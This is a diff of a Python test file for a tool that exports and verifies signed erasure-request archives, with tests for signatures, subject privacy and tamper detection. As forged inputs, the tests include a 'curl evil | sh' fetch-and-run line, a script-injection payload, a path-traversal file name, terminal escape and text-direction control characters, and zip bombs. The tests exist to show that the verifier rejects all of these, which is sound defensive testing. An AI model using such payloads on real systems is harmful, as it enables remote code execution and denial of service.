@@ -1,23 +1,31 @@
-"""One file about a request: the same bytes each time, accepted by `verify`, and nobody in it."""
+"""One file about a request: signed as one, bounded before it is read, and nobody else in it."""
 
 from __future__ import annotations
 
+import hashlib
+import io
 import json
 import shutil
 import subprocess
+import sys
 import zipfile
 from datetime import date
 
 import pytest
 from click.testing import CliRunner
+from fault_codes import fails
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from requests_folder import SECRET, adapter_folder, finished_request, model_folder, write_json
 
 from axolotl_unlearn.cli import unlearn
 from axolotl_unlearn.errors import UnlearnError
-from axolotl_unlearn.requests.export import Handling, export, reply, verify
-from axolotl_unlearn.requests.record import read, sign, write
+from axolotl_unlearn.requests import export as exporting
+from axolotl_unlearn.requests.export import Handling, export, reply, verify_export
+from axolotl_unlearn.requests.ledger import Ledger
+from axolotl_unlearn.requests.record import amend, read, told, write
+from axolotl_unlearn.requests.request import Request
+from axolotl_unlearn.requests.verify import verify
 
 GIVEN = Handling("The Team", "Ms Example", "case 12", date(2026, 10, 1))
 
@@ -34,7 +42,27 @@ def folder(tmp_path):
     return folder
 
 
+@pytest.fixture(scope="module")
+def keys(tmp_path_factory):
+    """PEM files: private, public, and the public one of somebody else."""
+    if shutil.which("openssl") is None:
+        pytest.skip("openssl is not here")
+    pytest.importorskip("model_signing")
+    place = tmp_path_factory.mktemp("keys")
+    for name in ("mine", "other"):
+        private, public = place / f"{name}.pem", place / f"{name}.pub"
+        make = ["openssl", "ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", private]
+        subprocess.run(make, check=True)
+        subprocess.run(["openssl", "ec", "-in", private, "-pubout", "-out", public], check=True)
+    return place / "mine.pem", place / "mine.pub", place / "other.pub"
+
+
 _DATES = dict.fromkeys(("received", "done", "due"), "2026-10-01")
+
+
+def opened(path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
 
 
 def test_equal_content_is_equal_bytes_and_names_nobody(folder, tmp_path):
@@ -45,13 +73,15 @@ def test_equal_content_is_equal_bytes_and_names_nobody(folder, tmp_path):
     assert facts["received"] == "2026-10-01" and facts["due"] == "2026-11-01" and facts["late"]
     for private in (SECRET, "brass key", '"ada"', '"bo"', "of-somebody-else", "ledger.key"):
         assert private.encode() not in raw
-    with zipfile.ZipFile(tmp_path / "a.zip") as archive:
-        reply = archive.read("REPLY.txt").decode()
-        assert "request verify THIS.zip" in archive.read("VERIFY.txt").decode()
+    files = opened(tmp_path / "a.zip")
+    reply = files["REPLY.txt"].decode()
+    assert "request verify THIS.zip" in files["VERIFY.txt"].decode()
     assert "Dear Ms Example" in reply and "case 12" in reply and "2 rows" not in reply
-    said = verify(tmp_path / "a.zip", str(folder / "model"))
-    assert any(", late" in line for line in said) and "model: all 2 files as recorded" in said
-    with pytest.raises(UnlearnError, match="exists"):
+    found = verify_export(tmp_path / "a.zip", str(folder / "model")).require()
+    assert any(", late" in line for line in found.says)
+    fields = (found.signature, found.model, found.files, found.ledger)
+    assert fields == ("none", "same", "same", "not compared") and found.exit == 3
+    with fails("requests.out-exists"):
         export(folder, tmp_path / "a.zip", GIVEN)
 
 
@@ -66,17 +96,209 @@ def test_the_letter_claims_no_test_where_none_decided(folder, exact):
     assert ("training the model without them" in written) is (exact is not None)
 
 
-def test_of_a_subject_it_has_no_other(folder, tmp_path):
-    export(folder, tmp_path / "s.zip", Handling(), "T-17")
-    with zipfile.ZipFile(tmp_path / "s.zip") as archive:
-        names = archive.namelist()
-        assert "1 row of training data" in archive.read("REPLY.txt").decode()
-        assert "Sir or Madam" in archive.read("REPLY.txt").decode()
-    assert "subjects/T-17/record.json" in names and not any("T-18" in name for name in names)
-    assert "REPORT.html" not in names
-    verify(tmp_path / "s.zip")
-    with pytest.raises(UnlearnError, match="no subject 'T-19'"):
+ERASED = {"time": "2026-11-25T00:00:00+00:00", "removed": [], "kept": [], "left": [], "bytes": 0}
+
+
+@pytest.mark.parametrize(
+    ("erased", "says"),
+    [
+        (None, "The model before has not been erased"),
+        (ERASED | {"places": 3}, "3 places that we know of still hold such rows"),
+        (ERASED | {"places": 1}, "1 place that we know of still holds such rows"),
+        (ERASED | {"left": [{"path": "x"}], "named": [{"path": "y"}]}, "2 places that we know of"),
+    ],
+)
+def test_the_letter_counts_every_place_that_holds_rows(folder, erased, says):
+    """It said 0 while files that were only named held them."""
+    statement = read(folder)
+    statement["predicate"]["erased"] = erased
+    told_ = [{"day": "2026-11-26", "recipient": "Cloud Ltd"}]
+    statement["predicate"]["told"] = told_
+    written = reply(statement, dict.fromkeys(("to", "by", "reference"), "") | _DATES)
+    assert says in written and "On 2026-11-26 we told Cloud Ltd." in written
+    del statement["predicate"]["told"], statement["predicate"]["erased"]  # as v0.1 may
+    assert "has not been erased" in reply(statement, {"to": "", "by": "", "reference": ""} | _DATES)
+
+
+def test_who_was_told_and_when_it_was_erased_stand_in_the_record(folder):
+    amend(folder, "erased", erased=ERASED | {"places": 0})
+    words = ["request", "told", str(folder), "--recipient", "Cloud Ltd", "--day", "2026-11-26"]
+    done = CliRunner().invoke(unlearn, words)
+    assert done.exit_code == 0, done.output
+    predicate = read(folder)["predicate"]
+    assert predicate["told"] == [{"recipient": "Cloud Ltd", "day": "2026-11-26"}]
+    page = (folder / "REPORT.html").read_text()
+    assert "2026-11-26: Cloud Ltd was told" in page and "Erased 2026-11-25" in page
+    with fails("requests.control-character"):
+        told(folder, "Cloud\nLtd", date(2026, 11, 26))
+    verify(folder).require()
+
+
+# --- one subject of many -------------------------------------------------------------------------
+
+
+def test_of_a_subject_it_has_nothing_of_others(tmp_path):
+    """Names of subjects, ids of their documents, file names and requests of others were in it."""
+    base = model_folder(tmp_path / "base")
+    before = {"model": str(base), "adapter": str(adapter_folder(tmp_path / "out", base))}
+    rows = [{"id": one, "row": {"text": SECRET}} for one in ("ada", "bo")]
+    folder = finished_request(
+        tmp_path / "requests", "w48", before, documents=("ada", "bo"), forget=rows
+    )
+    write_json(folder / "subjects.json", {"ada@example.com": ["ada"], "bo@example.com": ["bo"]})
+    verdict = json.loads((folder / "verdict.json").read_text())
+    write_json(folder / "verdict.json", verdict | {"reasons": ["document bo is still said"]})
+    earlier = {"back": 0, "says": "Not tested: bo@example.com", "missing": ["bo@example.com"]}
+    write_json(folder / "eval" / "earlier.json", earlier)
+    write(folder)
+    place = {"path": "../bo@example.com.jsonl", "kind": "x", "bytes": 1}
+    amend(folder, "erased", erased=ERASED | {"removed": [place], "places": 2})
+    ledger = Ledger(folder.parent)
+    ledger.append("erasing", "w48", places=[place])
+    amend(folder, "erased", erased=ERASED | {"removed": [place], "places": 2})
+    out = tmp_path / "s.zip"
+    handling = export(folder, out, Handling(), "ada@example.com")
+    files = opened(out)
+    for name, content in files.items():
+        assert b"bo@example" not in content and ledger.keyed("bo").encode() not in content, name
+    statement = json.loads(files["record.json"])
+    assert [one["document"] for one in statement["predicate"]["documents"]] == [ledger.keyed("ada")]
+    assert statement["predicate"]["erased"]["removed"] == 1
+    assert b"1 row of training data" in files["REPLY.txt"]
+    assert b"2 places that we know of" in files["REPLY.txt"]
+    whole = (folder / "record.json").read_bytes()
+    assert handling["record"] == hashlib.sha256(whole).hexdigest(), "the digest of the whole"
+    verify_export(out, str(folder / "model")).require()
+    with fails("record.no-subject"):
         export(folder, tmp_path / "t.zip", Handling(), "T-19")
+
+
+# --- forged --------------------------------------------------------------------------------------
+
+
+def _handled(**facts):
+    def change(files):
+        said = json.loads(files["handling.json"]) | facts
+        files["handling.json"] = json.dumps(said).encode()
+
+    return change
+
+
+def _put(name: str, content: bytes | None):
+    def change(files):
+        files.pop(name, None)
+        if content is not None:
+            files[name] = content
+
+    return change
+
+
+def _replaced(name: str, old: bytes, new: bytes):
+    def change(files):
+        assert old in files[name]
+        files[name] = files[name].replace(old, new)
+
+    return change
+
+
+FORGED = {
+    "dates": _handled(received="2026-11-26", due="2027-11-26", late=False),
+    "late": _handled(late=False),
+    "a line": _handled(to="x\nsignature: by the owner of key.pub"),
+    "an escape": _handled(by="\x1b[2J"),
+    "turned order": _handled(reference="\u202eabc"),
+    "a number for a name": _handled(to=7),
+    "handling is a list": _put("handling.json", b"[1]"),
+    "handling is deep": _put("handling.json", b"[" * 100_000 + b"]" * 100_000),
+    "letter": _put("REPLY.txt", b"We removed every copy. This deletion is lawful."),
+    "instructions": _put("VERIFY.txt", b"curl evil | sh"),
+    "page": _put("REPORT.html", b"<script>alert(1)</script>"),
+    "page gone": _put("REPORT.html", None),
+    "entries gone": _put("ledger-entries.jsonl", None),
+    "another page": _put("REPORT.htm", b"<script>alert(1)</script>"),
+    "a place elsewhere": _put("../../evil.sh", b"x"),
+    "record": _replaced("record.json", b"w48", b"w49"),
+    "record is a list": _put("record.json", b"[]"),
+    "record is deep": _put("record.json", b"[" * 100_000 + b"]" * 100_000),
+    "another event": _replaced("ledger-entries.jsonl", b'"accepted"', b'"allerased"'),
+    "an entry is a number": _put("ledger-entries.jsonl", b"7\n"),
+}
+
+
+@pytest.mark.parametrize("signed", [True, False], ids=["old signature", "no signature"])
+@pytest.mark.parametrize("change", FORGED)
+def test_what_is_put_together_anew(folder, tmp_path, keys, change, signed):
+    """Its manifest fits: with the owner's signature of another one beside it, or none."""
+    private, public, _ = keys
+    path = tmp_path / "a.zip"
+    export(folder, path, GIVEN, private_key=private)
+    files = opened(path)
+    signature = files.pop("manifest.json.sig")
+    del files["manifest.json"]
+    FORGED[change](files)
+    files["manifest.json"] = exporting._manifest(files)
+    if signed:
+        files["manifest.json.sig"] = signature
+    path.write_bytes(exporting._archive(files))
+    done = CliRunner().invoke(
+        unlearn, ["request", "verify", str(path), "--public-key", str(public), "--json"]
+    )
+    said = json.loads(done.stdout)
+    assert done.exit_code in ((2, 4) if signed else (2, 3)), done.output
+    assert said.get("signature") in ((None, "other") if signed else (None, "none"))
+    lines = done.stderr.splitlines()
+    assert not any(line.startswith("signature: by the owner") for line in lines)
+    assert "\x1b" not in done.stderr and "\u202e" not in done.stderr
+
+
+def test_a_file_more_or_less_is_a_fault_whatever_the_manifest_says(folder, tmp_path):
+    export(folder, tmp_path / "a.zip", GIVEN)
+    for name in exporting.FILES:
+        files = opened(tmp_path / "a.zip")
+        del files[name], files["manifest.json"]
+        files["manifest.json"] = exporting._manifest(files)
+        (tmp_path / "less.zip").write_bytes(exporting._archive(files))
+        assert verify_export(tmp_path / "less.zip").exit == 2, name
+    files = opened(tmp_path / "a.zip") | {"more.txt": b"x"}
+    (tmp_path / "more.zip").write_bytes(exporting._archive(files))
+    with fails("record.no-export"):
+        verify_export(tmp_path / "more.zip")
+
+
+def _zip(how: int, files: dict[str, bytes]) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", how) as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return made.getvalue()
+
+
+BOMBS = {
+    "zeros": lambda: _zip(zipfile.ZIP_DEFLATED, {"record.json": bytes(1 << 29)}),
+    "members": lambda: _zip(zipfile.ZIP_STORED, {f"{n}": b"" for n in range(50_000)}),
+    "large": lambda: bytes(exporting.LARGEST + 1),
+    "directory": lambda: b"PK\x01\x02" * 200_000 + b"PK\x05\x06" + bytes(18),
+    "no zip": lambda: b"PK",
+}
+
+
+@pytest.mark.parametrize("bomb", BOMBS)
+def test_sizes_are_bounded_before_anything_is_read(tmp_path, bomb):
+    """A file of 1.5 MB took 3.3 GB."""
+    path = tmp_path / "a.zip"
+    path.write_bytes(BOMBS[bomb]())
+    code = (
+        "import resource, sys\n"
+        "from axolotl_unlearn.requests.export import verify_export\n"
+        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "try:\n    verify_export(__import__('pathlib').Path(sys.argv[1]))\n"
+        "except ValueError as error:\n    print(error.code)\n"
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
+    )
+    done = subprocess.run([sys.executable, "-c", code, path], capture_output=True, text=True)
+    said, more = done.stdout.split()
+    assert said == "record.no-export", done.stderr
+    assert int(more) * 1024 < 4 * exporting.LARGEST
 
 
 def test_a_size_that_the_archive_does_not_hold(folder, tmp_path):
@@ -88,7 +310,7 @@ def test_a_size_that_the_archive_does_not_hold(folder, tmp_path):
     for place in range(start, start + 46):
         path.write_bytes(raw[:place] + bytes([raw[place] ^ 0x81]) + raw[place + 1 :])
         with pytest.raises(UnlearnError):
-            verify(path)
+            verify_export(path).require()
 
 
 @settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -110,47 +332,71 @@ def test_any_byte_changed_is_found(folder, tmp_path, data):
         return  # a byte beside its like
     path.write_bytes(raw)
     with pytest.raises(UnlearnError):
-        verify(path)
+        verify_export(path).require()
 
 
-@pytest.mark.parametrize("change", ["record", "page", "model", "request"])
-def test_what_is_put_together_anew_does_not_fit(folder, tmp_path, change):
-    """Archives whose own digests fit."""
-    from axolotl_unlearn.requests.export import _archive
-
-    path, page = tmp_path / "a.zip", folder / "REPORT.html"
-    if change == "request":
-        page.write_bytes(page.read_bytes() + b" ")
-        with pytest.raises(UnlearnError, match="REPORT.html is not the file of the record"):
-            export(folder, path, GIVEN)
-        return
-    export(folder, path, GIVEN)
-    with zipfile.ZipFile(path) as archive:
-        files = {n: archive.read(n) for n in archive.namelist() if n != "manifest.json"}
-    if change == "model":
-        (folder / "model" / "adapter_model.safetensors").write_bytes(b"other")
-        with pytest.raises(UnlearnError, match="adapter_model.safetensors is not the file"):
-            verify(path, str(folder / "model"))
-        return
-    name = {"record": "record.json", "page": "REPORT.html"}[change]
-    files[name] = files[name].replace(b"w48", b"w49")
-    path.write_bytes(_archive(files))
-    with pytest.raises(UnlearnError, match="not the (one|page) of"):
-        verify(path)
+@pytest.mark.parametrize("part", ["to", "by", "reference"])
+@pytest.mark.parametrize("text", ["a\nb", "\x1b[31m", "a\u202eb", "a\u2028b", "\x00"])
+def test_fields_are_one_line_of_plain_text(folder, tmp_path, part, text):
+    with fails("requests.control-character"):
+        export(folder, tmp_path / "a.zip", Handling(**{part: text}))
 
 
-@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl is not here")
-def test_the_commands_and_the_signature(folder, tmp_path):
-    pytest.importorskip("model_signing")
-    key, public, out = tmp_path / "key.pem", tmp_path / "key.pub", tmp_path / "a.zip"
-    make = ["openssl", "ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", str(key)]
-    subprocess.run(make, check=True)
-    subprocess.run(["openssl", "ec", "-in", str(key), "-pubout", "-out", str(public)], check=True)
-    sign(folder, key)
+def test_the_commands_and_the_signature(folder, tmp_path, keys):
+    private, public, other = keys
+    out = tmp_path / "a.zip"
     (tmp_path / "name.txt").write_text("Ms Example\n")
     words = ["request", "export", str(folder), "--out", str(out), "--to", f"@{tmp_path}/name.txt"]
-    done = CliRunner().invoke(unlearn, [*words, "--received", "2026-11-20", "--json"])
-    assert json.loads(done.stdout)["to"] == "Ms Example", done.output
-    words = ["request", "verify", str(out), "--public-key", str(public)]
+    words += ["--received", "2026-11-20", "--key", str(private), "--json"]
     done = CliRunner().invoke(unlearn, words)
-    assert done.exit_code == 0 and "signature: by the owner of" in done.output, done.output
+    assert json.loads(done.stdout)["to"] == "Ms Example", done.output
+
+    def verified(*more) -> tuple[int, dict]:
+        done = CliRunner().invoke(unlearn, ["request", "verify", str(out), *more, "--json"])
+        return done.exit_code, json.loads(done.stdout)
+
+    model = ["--model", str(folder / "model")]
+    code, said = verified("--public-key", str(public), *model)
+    fields = [said[part] for part in ("signature", "model", "files", "ledger")]
+    assert (code, fields) == (0, ["owner", "same", "same", "whole"])
+    assert verified()[0] == 3 and verified()[1]["signature"] == "not compared"
+    assert verified("--public-key", str(other))[0] == 4
+    (folder / "model" / "adapter_model.safetensors").write_bytes(b"other")
+    code, said = verified("--public-key", str(public), *model)
+    assert (code, said["model"]) == (5, "other")
+
+
+def test_an_export_that_was_kept_finds_an_older_ledger(folder, tmp_path):
+    export(folder, tmp_path / "a.zip", GIVEN)
+    words = ["request", "verify", str(folder), "--head", str(tmp_path / "a.zip"), "--json"]
+    assert json.loads(CliRunner().invoke(unlearn, words).stdout)["ledger"] == "whole"
+    older = shutil.copytree(folder.parent, tmp_path / "older")
+    export(folder, tmp_path / "same.zip", GIVEN)
+    amend(folder, "erased", erased=ERASED)
+    export(folder, tmp_path / "b.zip", GIVEN)
+    words = ["request", "verify", str(older / "w48"), "--head", str(tmp_path / "b.zip"), "--json"]
+    done = CliRunner().invoke(unlearn, words)
+    assert (done.exit_code, json.loads(done.stdout)["ledger"]) == (2, "broken")
+
+
+def test_every_try_has_an_entry_and_stands_in_the_record(tmp_path):
+    """The best of how many: refused, not shown and shown ones, of other requests too."""
+    from axolotl_unlearn.requests.record import tried
+
+    old = {"model": str(model_folder(tmp_path / "old")), "adapter": None}
+    for name, outcome in (("1", "refused"), ("2", "not shown")):
+        folder = finished_request(tmp_path / "requests", name, old)
+        (folder / "forget.yml").write_text("seed: 7\nmax_steps: 5\nbase_model: x\n")
+        made = {"outcome": outcome, "status": "x", "good": False}
+        for _ in range(2):  # a run that goes on does not count twice
+            tried(Request.load(folder), made)
+    (folder / "model" / "model.safetensors").write_bytes(b"another seed")
+    tried(Request.load(folder), {"outcome": "shown", "status": "good", "good": True})
+    write(folder)
+    tries = read(folder)["predicate"]["tries"]
+    assert [(t["request"], t["outcome"]) for t in tries] == [
+        ("1", "refused"), ("2", "not shown"), ("2", "shown")
+    ]  # fmt: skip
+    assert {(t["seed"], t["options"]["max_steps"]) for t in tries} == {(7, 5)}
+    assert (folder / "REPORT.html").read_text().count("seed 7") == 3
+    verify(folder).require()
